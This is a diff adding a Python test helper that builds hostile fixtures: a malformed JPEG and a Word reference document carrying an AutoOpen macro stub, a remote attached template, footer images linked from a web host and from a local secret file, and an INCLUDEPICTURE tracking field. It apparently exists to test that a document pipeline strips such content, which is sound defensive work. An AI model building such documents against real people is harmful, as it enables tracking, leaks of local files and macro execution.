@@ -1,0 +1,128 @@
+"""Hostile files built on the fly for tests/hostile/: images, reference documents."""
+
+from __future__ import annotations
+
+import io
+import struct
+import zipfile
+import zlib
+from pathlib import Path
+
+R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+
+
+def png_chunk(kind: bytes, data: bytes) -> bytes:
+    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+
+
+def png(width: int = 4, height: int = 2) -> bytes:
+    """A whole PNG: red pixels."""
+    rows = b"".join(b"\x00" + b"\xff\x00\x00" * width for _ in range(height))
+    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
+    return (
+        b"\x89PNG\r\n\x1a\n"
+        + png_chunk(b"IHDR", header)
+        + png_chunk(b"IDAT", zlib.compress(rows))
+        + png_chunk(b"IEND", b"")
+    )
+
+
+def jpeg_without_frame() -> bytes:
+    """SOI, an APP0 segment, then image data (SOS) with no frame header (SOF) before it."""
+    app0 = b"\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
+    return (
+        b"\xff\xd8" + app0 + b"\xff\xda\x00\x08\x01\x01\x00\x00?\x00" + b"\x12" * 64 + b"\xff\xd9"
+    )
+
+
+def linked_picture(rel_id: str, number: int) -> str:
+    """An inline picture whose image is linked (r:link), not embedded: Word and LibreOffice
+    fetch it when the document is opened."""
+    pic = "http://schemas.openxmlformats.org/drawingml/2006/picture"
+    wp = "http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"
+    size = 'cx="914400" cy="914400"'
+    return (
+        f'<w:drawing><wp:inline xmlns:wp="{wp}"><wp:extent {size}/>'
+        f'<wp:docPr id="{number}" name="Obraz {number}"/>'
+        '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
+        f'<pic:pic xmlns:pic="{pic}"><pic:nvPicPr><pic:cNvPr id="{number}" name="logo.png"/>'
+        "<pic:cNvPicPr/></pic:nvPicPr>"
+        f'<pic:blipFill><a:blip r:link="{rel_id}"/><a:stretch><a:fillRect/></a:stretch>'
+        f'</pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext {size}/></a:xfrm>'
+        '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic>'
+        "</a:graphicData></a:graphic></wp:inline></w:drawing>"
+    )
+
+
+def reference_docx(folder: Path, secret: Path) -> Path:
+    """A reference DOCX with macros, a remote attached template, a footer image linked from the
+    web and from a local file, and an INCLUDEPICTURE field fetching a URL."""
+    import docx
+
+    base = folder / "base.docx"
+    docx.Document().save(str(base))
+    with zipfile.ZipFile(base) as archive:
+        parts = {info.filename: archive.read(info) for info in archive.infolist()}
+    rels = parts["word/_rels/document.xml.rels"].decode()
+    extra = (
+        f'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/'
+        f'vbaProject" Target="vbaProject.bin"/>'
+        f'<Relationship Id="rIdFtr" Type="{R}/footer" Target="footer9.xml"/>'
+    )
+    parts["word/_rels/document.xml.rels"] = rels.replace(
+        "</Relationships>", extra + "</Relationships>"
+    ).encode()
+    parts["word/vbaProject.bin"] = b"MACRO-BYTES Sub AutoOpen() Shell(calc) End Sub"
+    document = parts["word/document.xml"].decode()
+    reference = f'<w:footerReference xmlns:r="{R}" w:type="default" r:id="rIdFtr"/>'
+    parts["word/document.xml"] = (
+        document.replace("<w:sectPr", "<w:sectPr", 1)
+        .replace("<w:pgSz", reference + "<w:pgSz", 1)
+        .encode()
+    )
+    parts["word/footer9.xml"] = (
+        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        f'<w:ftr xmlns:w="{W}" xmlns:r="{R}" '
+        f'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
+        f"<w:p><w:r><w:t>Stopka wzoru</w:t></w:r></w:p>"
+        f"<w:p><w:r>{linked_picture('rIdWeb', 1)}</w:r>"
+        f"<w:r>{linked_picture('rIdLocal', 2)}</w:r></w:p>"
+        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+        '<w:r><w:instrText> INCLUDEPICTURE "http://198.51.100.7/track.png" \\d '
+        "</w:instrText></w:r>"
+        f'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:ftr>'
+    ).encode()
+    parts["word/_rels/footer9.xml.rels"] = (
+        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        f'<Relationship Id="rIdWeb" Type="{R}/image" Target="http://198.51.100.7/logo.png" '
+        f'TargetMode="External"/>'
+        f'<Relationship Id="rIdLocal" Type="{R}/image" Target="file://{secret}" '
+        f'TargetMode="External"/></Relationships>'
+    ).encode()
+    settings = parts["word/settings.xml"].decode()
+    attached = '<w:attachedTemplate r:id="rIdTpl"/>'
+    head_end = settings.index(">", settings.index("<w:settings")) + 1
+    parts["word/settings.xml"] = (settings[:head_end] + attached + settings[head_end:]).encode()
+    parts["word/_rels/settings.xml.rels"] = (
+        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        f'<Relationship Id="rIdTpl" Type="{R}/attachedTemplate" '
+        f'Target="http://198.51.100.7/template.dotm" TargetMode="External"/></Relationships>'
+    ).encode()
+    types = parts["[Content_Types].xml"].decode()
+    parts["[Content_Types].xml"] = types.replace(
+        "</Types>",
+        '<Override PartName="/word/footer9.xml" ContentType="application/vnd.openxmlformats-'
+        'officedocument.wordprocessingml.footer+xml"/>'
+        '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.'
+        'vbaProject"/></Types>',
+    ).encode()
+    target = folder / "wzor.docx"
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, data in parts.items():
+            archive.writestr(name, data)
+    target.write_bytes(buffer.getvalue())
+    return target
